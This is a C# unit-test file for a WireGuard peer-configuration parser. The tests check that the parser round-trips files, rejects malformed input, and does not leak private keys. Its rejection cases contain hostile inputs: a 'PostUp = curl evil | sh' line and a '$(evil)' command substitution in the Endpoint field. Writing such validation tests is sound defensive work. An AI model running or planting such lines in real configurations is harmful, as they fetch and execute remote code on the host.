using System.Net;
using CsCheck;
using Wizard.Traefik;
using Wizard.Traefik.WireGuard;
using Xunit;

namespace Wizard.Tests.Traefik.WireGuard;

public sealed class PeerFileTests
{
    private const string Private = "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXowMTIzNDU=";
    private const string Public = "MDEyMzQ1Njc4OWFiY2RlZmdoaWprbG1ub3BxcnN0dXY=";

    private const string File = $"""
        # from the server
        [Interface]
        Address = 10.13.16.2/32
        PrivateKey = {Private}
        ListenPort = 51820
        DNS = 10.13.16.1

        [Peer]
        PublicKey = {Public}
        PresharedKey = {Private}
        Endpoint = vpn.example.com:51820
        AllowedIPs = 10.13.16.1/32, 10.13.17.0/24 # Traefik
        """;

    private static readonly Gen<string> Key = Gen.Byte.Array[32].Select(Convert.ToBase64String);
    private static readonly Gen<IPAddress> Address = Gen.OneOf(
        Gen.Byte.Array[4].Select(bytes => new IPAddress(bytes)),
        Gen.Byte.Array[14].Select(bytes => new IPAddress([0x20, 0x01, .. bytes])));

    private static readonly Gen<SourceRange> Network = Gen.Select(Address, Gen.Int[16, 32], (address, prefix) => new SourceRange(address, prefix));
    private static readonly Gen<string> Endpoint = Gen.Select(Gen.Char["abcz019-"].Array[0, 9], Gen.Int[1, 65535], Address, Gen.Bool,
        (letters, port, address, isName) => isName ? $"a{new string(letters)}z.example:{port}" : address.GetAddressBytes().Length == 4 ? $"{address}:{port}" : $"[{address}]:{port}");

    private static readonly Gen<PeerFile> Files = Gen.Select(Address.Array[1, 3], Key, Gen.Int[0, 65535], Key, Gen.Bool, Endpoint, Network.Array[1, 4],
        (addresses, key, port, other, isShared, endpoint, networks) => new PeerFile
        {
            Addresses = addresses,
            PrivateKey = key,
            ListenPort = port == 0 ? null : port,
            PublicKey = other,
            PresharedKey = isShared ? key : null,
            Endpoint = endpoint,
            AllowedIps = networks,
        });

    [Fact]
    public void What_is_written_reads_the_same_in_lines_and_joined_by_blanks_as_after_pasting() => Files.Sample(file =>
    {
        var text = file.ToText();
        Assert.Equal(text, PeerFileReader.Read(text).ToText());
        Assert.Equal(text, PeerFileReader.Read(text.Replace("\n", "\r\n", StringComparison.Ordinal)).ToText());
        Assert.Equal(text, PeerFileReader.Read(string.Join(' ', text.Split('\n', StringSplitOptions.RemoveEmptyEntries))).ToText());
    }, iter: 500, threads: 1);

    [Fact]
    public void No_text_whatever_gets_through_that_is_no_such_file() => Gen.Select(Gen.String, Gen.Int[0, File.Length], Gen.Int[0, 20]).Sample((noise, at, gap) =>
    {
        try
        {
            var file = PeerFileReader.Read(File.Remove(at, Math.Min(gap, File.Length - at)).Insert(at, noise));
            Assert.All(file.ToText().Split('\n'), line => Assert.Matches(@"^(\[(Interface|Peer)\]|[A-Za-z]+ = [A-Za-z0-9+/=.:, \[\]-]+|)$", line));
        }
        catch (UserError error)
        {
            Assert.DoesNotContain(Private, error.Message, StringComparison.Ordinal);
        }
    }, iter: 2000, threads: 1);

    [Fact]
    public void A_file_of_the_originals_server_is_read_and_what_has_no_meaning_here_is_told()
    {
        var file = PeerFileReader.Read(File);
        Assert.Equal(["10.13.16.1/32", "10.13.17.0/24"], file.AllowedIps.Select(range => $"{range}"));
        Assert.Equal(("10.13.16.2", Private, 51820, Public, Private, "vpn.example.com:51820"), ($"{file.Addresses.Single()}", file.PrivateKey, file.ListenPort, file.PublicKey, file.PresharedKey, file.Endpoint));
        Assert.Equal(["DNS"], file.LeftOut);
    }

    [Theory]
    [InlineData("DNS = 10.13.16.1", "PostUp = curl evil | sh", "PostUp: a command")]
    [InlineData("DNS = 10.13.16.1", "predown=x", "PreDown: a command")]
    [InlineData("DNS = 10.13.16.1", "Table = off", "Table, which changes more")]
    [InlineData("DNS = 10.13.16.1", "Foo = bar", "no")]
    [InlineData("DNS = 10.13.16.1", "ListenPort = 1", "stands there twice")]
    [InlineData("ListenPort = 51820", "ListenPort = 70000", "ListenPort is none")]
    [InlineData("10.13.17.0/24", "0.0.0.0/0", "whole machine")]
    [InlineData("10.13.17.0/24", "0.0.0.0/1, 128.0.0.0/1", "whole machine")]
    [InlineData("10.13.17.0/24", "::/0", "whole machine")]
    [InlineData("10.13.17.0/24", "x", "range")]
    [InlineData("PublicKey = ", "PublicKey = x", "PublicKey is no key")]
    [InlineData("vpn.example.com:51820", "vpn.example.com", "Endpoint")]
    [InlineData("vpn.example.com:51820", "$(evil):51820", "Endpoint")]
    [InlineData("[Peer]", "", "no")]
    [InlineData("[Peer]", "[Peer]\n[Peer]", "more than one [Peer]")]
    [InlineData("[Peer]", "[Other]", "neither")]
    [InlineData("[Interface]", "", "no")]
    public void What_would_do_more_than_connect_is_refused_whether_in_lines_or_joined(string part, string instead, string why)
    {
        var text = File.Replace(part, instead, StringComparison.Ordinal);
        Assert.Contains(why, Assert.Throws<UserError>(() => PeerFileReader.Read(text)).Message, StringComparison.Ordinal);
        var uncommented = string.Join(' ', text.Split('\n').Select(line => line.Split('#')[0].Trim()));
        Assert.Throws<UserError>(() => PeerFileReader.Read(uncommented));
    }
}
